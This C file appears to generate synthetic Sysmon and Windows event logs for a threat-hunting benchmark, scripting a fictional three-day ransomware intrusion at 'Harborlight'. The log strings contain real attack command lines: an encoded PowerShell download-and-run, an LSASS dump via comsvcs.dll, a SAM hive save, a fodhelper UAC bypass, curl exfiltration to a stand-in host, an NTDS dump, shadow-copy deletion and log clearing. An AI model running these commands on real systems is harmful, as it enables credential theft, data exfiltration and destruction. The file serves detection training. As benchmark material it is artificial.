/* gen_story.c - the intrusion at Harborlight, 10 to 12 June 2024, act by act.
 *
 * Monday     a document on HL-WS03 starts PowerShell, which leaves a beacon;
 *            LSASS and SAM are dumped, a process is injected, tickets are asked for
 * Tuesday    at night: passwords tried at HL-DC01, a service on HL-FILE01, files taken;
 *            WMI to HL-DC01, the domain database, a new account
 * Wednesday  at night: backups destroyed, files locked, logs cleared
 *
 * docs/hunts.md asks about what is told here. */
#include "bench/gen/gen_world.h"

#define PS "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
#define SYSTEM32(file) "C:\\Windows\\System32\\" file
#define OFFICE(file) "C:\\Program Files\\Microsoft Office\\root\\Office16\\" file
#define BEACON "C:\\Users\\mara.lindqvist\\AppData\\Roaming\\BerthView\\berthview.exe"
#define HIVE "HKU\\S-1-5-21-2024061010-1411170403-3320770042-1109"
#define SYSMON "Microsoft-Windows-Sysmon"
#define TECHNIQUE(id, name) "technique_id=" id ",technique_name=" name
#define END ((char *)NULL)

static gen_process *run(gen_world *w, gen_process *parent, gen_person user, const char *image,
                        const char *command_line, const char *rule) {
    gen_process *process = gen_spawn(w, parent, user, image, command_line, rule);
    gen_wait(w, 300 + gen_below(&w->random, 900));
    gen_exit(w, process);
    gen_wait(w, 4000 + gen_below(&w->random, 20000));
    return process;
}

/* -- Monday ------------------------------------------------------------------------------------ */

static gen_process *open_document(gen_world *w) {
    gen_process *explorer = gen_running(w, GEN_WS03, GEN_MARA, "C:\\Windows\\explorer.exe",
                                        "C:\\Windows\\Explorer.EXE");
    gen_at(w, 10, 9, 12, 4);
    gen_process *outlook = gen_spawn(w, explorer, GEN_MARA, OFFICE("OUTLOOK.EXE"),
                                     "\"" OFFICE("OUTLOOK.EXE") "\"", NULL);
    gen_wait(w, 90000);
    const char *document =
        "C:\\Users\\mara.lindqvist\\Downloads\\Berth allocation June – rev Ø.docm";
    gen_sysmon(w, outlook, 15, "RuleName", TECHNIQUE("T1566.001", "Spearphishing Attachment"),
               "TargetFilename", gen_print(w, "%s:Zone.Identifier", document), "CreationUtcTime",
               "2024-06-10 09:13:30.000", "Hash", gen_hashes(w, document), "Contents",
               "[ZoneTransfer]  ZoneId=3  HostUrl=about:internet", END);
    gen_process *word =
        gen_spawn(w, outlook, GEN_MARA, OFFICE("WINWORD.EXE"),
                  gen_print(w, "\"" OFFICE("WINWORD.EXE") "\" /n \"%s\"", document), NULL);
    gen_load(w, word, "C:\\Program Files\\Common Files\\Microsoft Shared\\VBA\\VBA7.1\\VBE7.DLL",
             "Microsoft Corporation", true);
    gen_wait(w, 11000);
    gen_process *powershell =
        gen_spawn(w, word, GEN_MARA, PS,
                  "powershell.exe -nop -w hidden -enc "
                  "SQBFAFgAIAAoAGkAdwByACAAJwBoAHQAdABwADoALwAvAGMAZABuAC4AZgBsAGUAZQB0AC0AdABlAGwA"
                  "ZQBtAGUAdAByAHkALgBlAHgAYQBtAHAAbABlAC8AYQAnACkA",
                  TECHNIQUE("T1059.001", "PowerShell"));
    gen_script(w, powershell, "IEX (iwr 'http://cdn.fleet-telemetry.example/a')");
    gen_resolve(w, powershell, "cdn.fleet-telemetry.example", "::ffff:203.0.113.77;");
    gen_connect(w, powershell, "203.0.113.77", "cdn.fleet-telemetry.example", 80);
    gen_file(w, powershell, BEACON, TECHNIQUE("T1105", "Ingress Tool Transfer"));
    gen_sysmon(w, powershell, 29, "TargetFilename", BEACON, "Hashes", gen_hashes(w, BEACON), END);
    gen_sysmon(w, powershell, 2, "TargetFilename", BEACON, "CreationUtcTime",
               "2019-12-07 09:08:41.000", "PreviousCreationUtcTime", "2024-06-10 09:14:02.871",
               "RuleName", TECHNIQUE("T1070.006", "Timestomp"), END);
    gen_process *beacon = gen_spawn(w, powershell, GEN_MARA, BEACON, "\"" BEACON "\" /quiet", NULL);
    gen_set_value(w, beacon, HIVE "\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\BerthView",
                  BEACON, TECHNIQUE("T1547.001", "Registry Run Keys / Start Folder"));
    gen_exit(w, powershell);
    return beacon;
}

/* Every ten minutes, until its host is left alone. */
static void call_home(gen_world *w, const gen_process *beacon) {
    for (int minute = 9 * 60 + 20; minute < (2 * 24 + 15) * 60 + 20; minute += 10) {
        gen_at(w, 10 + minute / (24 * 60), minute / 60 % 24, minute % 60, 7);
        gen_connect(w, beacon, "203.0.113.77", "cdn.fleet-telemetry.example", 443);
    }
}

/* Returns the shell that has rights. */
static gen_process *look_round(gen_world *w, gen_process *beacon) {
    gen_at(w, 10, 9, 31, 12);
    gen_process *shell =
        gen_spawn(w, beacon, GEN_MARA, SYSTEM32("cmd.exe"), SYSTEM32("cmd.exe") " /k", NULL);
    run(w, shell, GEN_MARA, SYSTEM32("whoami.exe"), "whoami /groups /priv",
        TECHNIQUE("T1033", "System Owner/User Discovery"));
    run(w, shell, GEN_MARA, SYSTEM32("net.exe"), "net  group \"Domain Admins\" /domain",
        TECHNIQUE("T1069.002", "Domain Groups"));
    run(w, shell, GEN_MARA, SYSTEM32("nltest.exe"), "nltest  /domain_trusts /all_trusts",
        TECHNIQUE("T1482", "Domain Trust Discovery"));
    run(w, shell, GEN_MARA, SYSTEM32("systeminfo.exe"), "systeminfo", NULL);
    run(w, shell, GEN_MARA, SYSTEM32("tasklist.exe"), "tasklist /svc", NULL);
    gen_set_value(w, beacon, HIVE "_Classes\\ms-settings\\shell\\open\\command\\(Default)",
                  SYSTEM32("cmd.exe") " /c start " BEACON,
                  TECHNIQUE("T1548.002", "Bypass User Access Control"));
    gen_process *helper = gen_spawn(w, shell, GEN_MARA, SYSTEM32("fodhelper.exe"),
                                    "\"" SYSTEM32("fodhelper.exe") "\"", NULL);
    gen_process *elevated = gen_spawn(w, helper, GEN_HELPDESK, SYSTEM32("cmd.exe"),
                                      "\"" SYSTEM32("cmd.exe") "\" /c start " BEACON,
                                      TECHNIQUE("T1548.002", "Bypass User Access Control"));
    gen_sysmon(w, beacon, 12, "EventType", "DeleteKey", "TargetObject",
               HIVE "_Classes\\ms-settings", END);
    return elevated;
}

static void steal_credentials(gen_world *w, gen_process *shell) {
    gen_at(w, 10, 11, 2, 40);
    gen_process *lsass =
        gen_running(w, GEN_WS03, GEN_SYSTEM, SYSTEM32("lsass.exe"), SYSTEM32("lsass.exe"));
    gen_at(w, 10, 11, 2, 40);
    gen_process *dumper = gen_spawn(w, shell, GEN_SYSTEM, SYSTEM32("rundll32.exe"),
                                    gen_print(w,
                                              "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, "
                                              "MiniDump %s C:\\Windows\\Temp\\hl.dmp full",
                                              lsass->pid),
                                    TECHNIQUE("T1003.001", "LSASS Memory"));
    gen_access(w, dumper, lsass, "0x1fffff",
               "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2bcbe|"
               "C:\\Windows\\System32\\comsvcs.dll+2f4b1",
               TECHNIQUE("T1003.001", "LSASS Memory"));
    gen_file(w, dumper, "C:\\Windows\\Temp\\hl.dmp", TECHNIQUE("T1003.001", "LSASS Memory"));
    gen_exit(w, dumper);
    run(w, shell, GEN_SYSTEM, SYSTEM32("reg.exe"), "reg  save HKLM\\SAM C:\\Windows\\Temp\\s.hiv",
        TECHNIQUE("T1003.002", "Security Account Manager"));
}

static void hide(gen_world *w, gen_process *shell) {
    gen_process *spooler =
        gen_running(w, GEN_WS03, GEN_SYSTEM, SYSTEM32("spoolsv.exe"), SYSTEM32("spoolsv.exe"));
    gen_at(w, 10, 11, 20, 3);
    gen_add(w, shell->host, SYSMON, 8, "RuleName", TECHNIQUE("T1055", "Process Injection"),
            "SourceProcessGuid", shell->guid, "SourceProcessId", shell->pid, "SourceImage",
            shell->image, "TargetProcessGuid", spooler->guid, "TargetProcessId", spooler->pid,
            "TargetImage", spooler->image, "NewThreadId", "5124", "StartAddress",
            "0x000001D9A2C40000", "SourceUser", shell->user->account, "TargetUser",
            spooler->user->account, END);
    gen_sysmon(w, spooler, 25, "Type", "Image is replaced", "RuleName",
               TECHNIQUE("T1055.012", "Process Hollowing"), END);
    gen_sysmon(w, spooler, 17, "EventType", "CreatePipe", "PipeName", "\\hl-status-9f3a", END);
    gen_sysmon(w, shell, 18, "EventType", "ConnectPipe", "PipeName", "\\hl-status-9f3a", END);
    gen_sysmon(w, shell, 24, "Session", "1", "ClientInfo",
               "user: HARBOR\\mara.lindqvist hostname: HL-WS03", "Hashes",
               gen_hashes(w, "clipboard"), "Archived", "true", END);
    run(w, shell, GEN_SYSTEM, PS,
        "powershell.exe Set-MpPreference -DisableRealtimeMonitoring $true",
        TECHNIQUE("T1562.001", "Disable or Modify Tools"));
    gen_ticket(w, GEN_MARA, "svc-backup", "0x17", "192.0.2.23");
    gen_ticket(w, GEN_MARA, "svc-sql", "0x17", "192.0.2.23");
    gen_ticket(w, GEN_MARA, "svc-web", "0x17", "192.0.2.23");
}

/* -- Tuesday ----------------------------------------------------------------------------------- */

static void try_passwords(gen_world *w) {
    static const char *const tried[] = {"ines.duarte", "tomas.reyes", "admin",     "administrator",
                                        "svc-sql",     "svc-web",     "svc-print", "helpdesk",
                                        "helpdesk2",   "guest",       "scanner",   "svc-backup"};
    gen_at(w, 11, 1, 40, 9);
    for (size_t i = 0; i < sizeof tried / sizeof tried[0]; i++) {
        bool is_unknown = i == 2 || i == 6 || i == 10;
        gen_failed_logon(w, GEN_DC01, tried[i], "192.0.2.23", "HL-WS03", is_unknown);
        gen_wait(w, 2100);
    }
}

static void watch_the_clock(gen_world *w, const gen_host *host) {
    const char *rule = TECHNIQUE("T1546.003", "WMI Event Subscription");
    gen_add(w, host, SYSMON, 19, "EventType", "WmiFilterEvent", "Operation", "Created", "User",
            "HARBOR\\svc-backup", "EventNamespace", "\"root\\\\cimv2\"", "Name", "\"BerthTick\"",
            "Query",
            "\"SELECT * FROM __InstanceModificationEvent WITHIN 300 WHERE TargetInstance ISA "
            "'Win32_LocalTime'\"",
            "RuleName", rule, END);
    gen_add(w, host, SYSMON, 20, "EventType", "WmiConsumerEvent", "Operation", "Created", "User",
            "HARBOR\\svc-backup", "Name", "\"BerthTick\"", "Type", "Command Line", "Destination",
            "\"C:\\\\ProgramData\\\\bt.exe\"", "RuleName", rule, END);
    gen_add(w, host, SYSMON, 21, "EventType", "WmiBindingEvent", "Operation", "Created", "User",
            "HARBOR\\svc-backup", "Consumer", "\"CommandLineEventConsumer.Name=\\\"BerthTick\\\"\"",
            "Filter", "\"__EventFilter.Name=\\\"BerthTick\\\"\"", "RuleName", rule, END);
}

static void take_files(gen_world *w) {
    gen_logon(w, GEN_FILE01, GEN_BACKUP, 3, "192.0.2.23", "HL-WS03");
    gen_share(w, GEN_FILE01, GEN_BACKUP, "ADMIN$", "PSEXESVC.exe", "192.0.2.23");
    gen_share(w, GEN_FILE01, GEN_BACKUP, "IPC$", "PSEXESVC-HL-WS03-4412-stdin", "192.0.2.23");
    gen_service(w, GEN_FILE01, GEN_BACKUP, "PSEXESVC", "%SystemRoot%\\PSEXESVC.exe");
    gen_process *services =
        gen_running(w, GEN_FILE01, GEN_SYSTEM, SYSTEM32("services.exe"), SYSTEM32("services.exe"));
    gen_at(w, 11, 1, 44, 30);
    gen_process *service = gen_spawn(w, services, GEN_SYSTEM, "C:\\Windows\\PSEXESVC.exe",
                                     "C:\\Windows\\PSEXESVC.exe", NULL);
    gen_process *shell =
        gen_spawn(w, service, GEN_SYSTEM, SYSTEM32("cmd.exe"), "\"cmd.exe\"", NULL);
    run(w, shell, GEN_SYSTEM, SYSTEM32("whoami.exe"), "whoami", NULL);
    watch_the_clock(w, services->host);
    gen_process *archiver =
        gen_spawn(w, shell, GEN_SYSTEM, "C:\\ProgramData\\r.exe",
                  "r.exe a -hpHarbor2024 -m5 D:\\Shares\\fin.rar D:\\Shares\\Finance",
                  TECHNIQUE("T1560.001", "Archive via Utility"));
    gen_file(w, archiver, "D:\\Shares\\fin.rar", NULL);
    gen_exit(w, archiver);
    gen_process *curl =
        gen_spawn(w, shell, GEN_SYSTEM, SYSTEM32("curl.exe"),
                  "curl.exe -T D:\\Shares\\fin.rar https://drop.quay-storage.example/u/",
                  TECHNIQUE("T1048", "Exfiltration Over Alternative Protocol"));
    gen_resolve(w, curl, "drop.quay-storage.example", "::ffff:198.51.100.23;");
    gen_connect(w, curl, "198.51.100.23", "drop.quay-storage.example", 443);
    gen_exit(w, curl);
    gen_sysmon(w, shell, 26, "TargetFilename", "D:\\Shares\\fin.rar", "Hashes",
               gen_hashes(w, "D:\\Shares\\fin.rar"), "IsExecutable", "false", END);
}

static void add_account(gen_world *w, const gen_host *host) {
    const gen_user *by = &w->users[GEN_BACKUP], *made = &w->users[GEN_HELPDESK];
    gen_add(w, host, "Security", 4720, "TargetUserName", made->name, "TargetDomainName", "HARBOR",
            "TargetSid", made->sid, "SubjectUserSid", by->sid, "SubjectUserName", by->name,
            "SubjectDomainName", "HARBOR", "SubjectLogonId", by->logon_id, "SamAccountName",
            made->name, "PrimaryGroupId", "513", END);
    gen_add(w, host, "Security", 4732, "MemberName", "-", "MemberSid", made->sid, "TargetUserName",
            "Administrators", "TargetDomainName", "Builtin", "TargetSid", "S-1-5-32-544",
            "SubjectUserSid", by->sid, "SubjectUserName", by->name, "SubjectDomainName", "HARBOR",
            "SubjectLogonId", by->logon_id, END);
}

static void take_the_domain(gen_world *w) {
    gen_process *services =
        gen_running(w, GEN_DC01, GEN_SYSTEM, SYSTEM32("services.exe"), SYSTEM32("services.exe"));
    gen_at(w, 11, 2, 30, 11);
    gen_logon(w, GEN_DC01, GEN_BACKUP, 3, "192.0.2.10", "HL-FILE01");
    gen_process *wmi = gen_spawn(w, services, GEN_NETWORK_SERVICE, SYSTEM32("wbem\\WmiPrvSE.exe"),
                                 SYSTEM32("wbem\\wmiprvse.exe") " -secured -Embedding", NULL);
    gen_process *shell =
        gen_spawn(w, wmi, GEN_BACKUP, SYSTEM32("cmd.exe"),
                  "cmd.exe /Q /c cd \\ 1> \\\\127.0.0.1\\ADMIN$\\__1718073011 2>&1",
                  TECHNIQUE("T1047", "Windows Management Instrumentation"));
    gen_process *ntdsutil =
        gen_spawn(w, shell, GEN_BACKUP, SYSTEM32("ntdsutil.exe"),
                  "ntdsutil \"ac i ntds\" \"ifm\" \"create full C:\\ProgramData\\m\" q q",
                  TECHNIQUE("T1003.003", "NTDS"));
    gen_sysmon(w, ntdsutil, 9, "Device", "\\Device\\HarddiskVolume3", "RuleName",
               TECHNIQUE("T1006", "Direct Volume Access"), END);
    gen_file(w, ntdsutil, "C:\\ProgramData\\m\\Active Directory\\ntds.dit",
             TECHNIQUE("T1003.003", "NTDS"));
    gen_exit(w, ntdsutil);
    run(w, shell, GEN_BACKUP, SYSTEM32("net.exe"), "net  user helpdesk2 Qu4yside! /add /domain",
        TECHNIQUE("T1136.002", "Domain Account"));
    add_account(w, services->host);
    run(w, shell, GEN_BACKUP, SYSTEM32("schtasks.exe"),
        "schtasks /create /ru SYSTEM /sc daily /st 03:10 /tn \"\\Berth Sync\" /tr \"powershell -w "
        "hidden -f C:\\ProgramData\\b.ps1\"",
        TECHNIQUE("T1053.005", "Scheduled Task"));
    const gen_user *by = &w->users[GEN_BACKUP];
    gen_add(w, services->host, "Security", 4698, "SubjectUserSid", by->sid, "SubjectUserName",
            by->name, "SubjectDomainName", "HARBOR", "SubjectLogonId", by->logon_id, "TaskName",
            "\\Berth Sync", "TaskContent",
            "<?xml version=\"1.0\" encoding=\"UTF-16\"?>\r\n<Task version=\"1.2\" "
            "xmlns=\"http://schemas.microsoft.com/windows/2004/02/mit/task\">\r\n  "
            "<Principals><Principal "
            "id=\"Author\"><UserId>S-1-5-18</UserId></Principal></Principals>\r\n  <Actions "
            "Context=\"Author\"><Exec><Command>powershell</Command><Arguments>-w hidden -f "
            "C:\\ProgramData\\b.ps1</Arguments></Exec></Actions>\r\n</Task>",
            END);
    gen_sysmon(w, shell, 14, "EventType", "RenameKey", "TargetObject", "HKLM\\SOFTWARE\\Berth",
               "NewName", "HKLM\\SOFTWARE\\Quay", END);
}

/* -- Wednesday --------------------------------------------------------------------------------- */

static void lock_files(gen_world *w, const gen_process *locker) {
    static const char *const kinds[] = {"xlsx", "docx", "pdf", "dwg"};
    for (unsigned i = 0; i < 160; i++) {
        const char *file =
            gen_print(w, "D:\\Shares\\Finance\\2024\\invoice-%04u.%s", 100 + 7 * i, kinds[i % 4]);
        gen_file(w, locker, gen_print(w, "%s.berthed", file), NULL);
        gen_sysmon(w, locker, 23, "TargetFilename", file, "Hashes", gen_hashes(w, file),
                   "IsExecutable", "false", "Archived", "true", "RuleName",
                   TECHNIQUE("T1486", "Data Encrypted for Impact"), END);
    }
    gen_file(w, locker, "D:\\Shares\\Finance\\HOW_TO_SAIL_AGAIN.txt", NULL);
    gen_sysmon(w, locker, 27, "TargetFilename", "D:\\Shares\\Public\\bt2.exe", "Hashes",
               gen_hashes(w, "D:\\Shares\\Public\\bt2.exe"), END);
    gen_sysmon(w, locker, 28, "TargetFilename", "D:\\Shares\\fin.rar", "Hashes",
               gen_hashes(w, "D:\\Shares\\fin.rar"), "IsExecutable", "false", END);
}

static void clear_logs(gen_world *w, gen_process *locker) {
    run(w, locker, GEN_SYSTEM, SYSTEM32("wevtutil.exe"), "wevtutil.exe cl Security",
        TECHNIQUE("T1070.001", "Clear Windows Event Logs"));
    gen_add(w, locker->host, "Security", 1102, "SubjectUserSid", "S-1-5-18", "SubjectUserName",
            "SYSTEM", "SubjectDomainName", "NT AUTHORITY", "SubjectLogonId", "0x3e7", END);
    gen_add(w, locker->host, "System", 104, "SubjectUserName", "SYSTEM", "SubjectDomainName",
            "NT AUTHORITY", "Channel", "System", END);
    gen_add(w, locker->host, SYSMON, 16, "Configuration", "C:\\ProgramData\\empty.xml",
            "ConfigurationFileHash", gen_hashes(w, "empty.xml"), END);
    gen_add(w, locker->host, SYSMON, 255, "ID", "DriverCommunication", "Description",
            "Failed to retrieve events - Last error: The handle is invalid.", END);
    gen_add(w, locker->host, SYSMON, 4, "State", "Stopped", "Version", "15.14", "SchemaVersion",
            "4.90", END);
}

static void destroy(gen_world *w) {
    static const char *const stopped[] = {"MSSQLSERVER", "SQLWriter",           "VSS",
                                          "WSearch",     "BackupExecJobEngine", "wbengine"};
    gen_process *services =
        gen_running(w, GEN_FILE01, GEN_SYSTEM, SYSTEM32("services.exe"), SYSTEM32("services.exe"));
    gen_at(w, 12, 3, 5, 2);
    gen_process *locker = gen_spawn(w, services, GEN_SYSTEM, "C:\\ProgramData\\bt.exe",
                                    "C:\\ProgramData\\bt.exe -all", NULL);
    gen_add(w, services->host, SYSMON, 6, "ImageLoaded", "C:\\ProgramData\\btdrv.sys", "Hashes",
            gen_hashes(w, "C:\\ProgramData\\btdrv.sys"), "Signed", "false", "SignatureStatus",
            "Unavailable", END);
    for (size_t i = 0; i < sizeof stopped / sizeof stopped[0]; i++) {
        run(w, locker, GEN_SYSTEM, SYSTEM32("net.exe"), gen_print(w, "net stop %s /y", stopped[i]),
            TECHNIQUE("T1489", "Service Stop"));
        gen_add(w, services->host, "System", 7036, "param1", stopped[i], "param2", "stopped", END);
    }
    run(w, locker, GEN_SYSTEM, SYSTEM32("vssadmin.exe"), "vssadmin.exe delete shadows /all /quiet",
        TECHNIQUE("T1490", "Inhibit System Recovery"));
    run(w, locker, GEN_SYSTEM, SYSTEM32("bcdedit.exe"),
        "bcdedit.exe /set {default} recoveryenabled no",
        TECHNIQUE("T1490", "Inhibit System Recovery"));
    lock_files(w, locker);
    clear_logs(w, locker);
}

void gen_story(gen_world *world) {
    gen_process *beacon = open_document(world);
    call_home(world, beacon);
    gen_process *shell = look_round(world, beacon);
    steal_credentials(world, shell);
    hide(world, shell);
    try_passwords(world);
    take_files(world);
    take_the_domain(world);
    destroy(world);
}
